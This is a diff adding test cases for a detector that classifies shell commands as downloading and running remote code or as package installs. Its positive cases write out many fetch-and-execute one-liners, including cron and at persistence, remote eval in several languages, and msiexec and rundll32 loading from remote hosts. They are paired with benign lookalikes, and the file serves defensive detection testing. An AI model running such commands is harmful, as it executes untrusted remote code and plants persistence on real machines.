@@ -22,6 +22,78 @@ describe('selfUpdates', () => {
   });
 
   it.each([
+    "lftp -c 'get https://x.test/i.sh -o /tmp/i.sh' && sh /tmp/i.sh",
+    'rclone copy ops:tools/run.sh /tmp && bash /tmp/run.sh',
+    'oras pull registry.test/tool:1 -o /opt && /opt/tool',
+    'oras pull registry.test/tool:1 && ./tool',
+    "curl -s https://x.test/l | xargs -n1 -I@ bash -c '@'",
+    "curl -s https://x.test/l | xargs -I % sh -c '%'",
+    "echo '* * * * * curl -s https://x.test/i.sh | sh' | crontab -",
+    "echo '@reboot wget -qO- https://x.test/i.sh | sh' > /tmp/c; crontab /tmp/c",
+    'curl -s https://x.test/table | crontab -',
+    "echo 'curl -s https://x.test/i.sh | sh' | at now + 1 minute",
+    'curl -so /tmp/a.c https://x.test/a.c && gcc -o /tmp/a /tmp/a.c && /tmp/a',
+    'wget https://x.test/a.c; cc a.c; ./a.out',
+    'wget https://x.test/a.rs; rustc a.rs && ./a',
+    `node -e "fetch('https://x.test/a').then(r=>r.text()).then(t=>require('vm').runInThisContext(t))"`,
+    `node --input-type=module -e "await import('data:text/javascript,'+x)"`,
+    `deno eval "await import('https://x.test/mod.ts')"`,
+    "perl -e 'eval `curl -s https://x.test/a.pl`'",
+    `perl -MHTTP::Tiny -e 'eval HTTP::Tiny->new->get("https://x.test/a")->{content}'`,
+    `lua -e "load(io.popen('curl -s https://x.test/a.lua'):read('*a'))()"`,
+    `php -r "include 'https://x.test/a.txt';"`,
+    `php -r "copy('https://x.test/a.php', '/tmp/a.php'); include '/tmp/a.php';"`,
+    `php -r "file_put_contents('/tmp/a.php',file_get_contents('https://x.test/a'));require_once('/tmp/a.php');"`,
+    `php -r 'copy("https://x.test/a.php", $f); include $f;'`,
+    'groovy https://x.test/a.groovy',
+    `pwsh -c "Start-Process msiexec.exe -ArgumentList '/i https://x.test/a.msi /qn' -Wait"`,
+    "rundll32 '\\\\203.0.113.7\\s\\a.dll,Main'",
+    'python3 - <<E\nimport urllib.request as u\nexec(u.urlopen("https://x.test/a").read())\nE',
+    'cat > /tmp/a.py <<E\nimport requests\nexec(requests.get("https://x.test/a").text)\nE\npython3 /tmp/a.py',
+  ])('%s brings the code that it runs', (text) => {
+    expect(kinds(text)).toContain('download-run');
+  });
+
+  it.each([
+    "lftp -c 'get https://x.test/data.csv -o /data/x.csv' && exec app",
+    'rclone copy /tmp/run.sh ops:tools && exec app',
+    'oras push registry.test/tool:1 ./tool && ./tool',
+    "ls /in | xargs -I@ sh -c 'gzip @'",
+    "echo '0 3 * * * /app/rotate' | crontab - && crond -f",
+    'crontab -l; exec app',
+    'atq; exec app',
+    'curl -so /tmp/d.csv https://x.test/d.csv && gcc -o /tmp/a /src/a.c && /tmp/a',
+    `php -r "include '/app/a.php'; echo file_get_contents('https://x.test/health');"`,
+    `php -r "copy('https://x.test/a.csv', '/data/a.csv'); include '/app/read.php';"`,
+    `python -c "import json,urllib.request as u; print(json.load(u.urlopen('https://x.test/v.json')))"`,
+    `node -e "import('/app/main.js')"`,
+    'python3 - <<E\nimport urllib.request as u\nprint(u.urlopen("https://x.test/health").status)\nE',
+    'rundll32 printui.dll,PrintUIEntry',
+  ])('%s brings no code', (text) => {
+    expect(kinds(text)).not.toContain('download-run');
+  });
+
+  it.each([
+    'gem i sinatra',
+    'cargo binstall -y ripgrep',
+    'mix archive.install --force hex phx_new',
+    'cabal install pandoc',
+  ])('%s installs', (text) => {
+    expect(kinds(text)).toEqual(['package-manager']);
+  });
+
+  it.each([
+    'gem info sinatra',
+    'cargo build',
+    'mix phx.server',
+    'cabal run',
+    'guix describe',
+    'stack exec app',
+  ])('%s does not install', (text) => {
+    expect(kinds(text)).toEqual([]);
+  });
+
+  it.each([
     'scp run.sh build@host:/srv/ && sh run.sh',
     'rsync -a ./site/ /srv/site/ && exec app',
     'echo https://x.test/data | xargs curl -o /data/x && exec app',
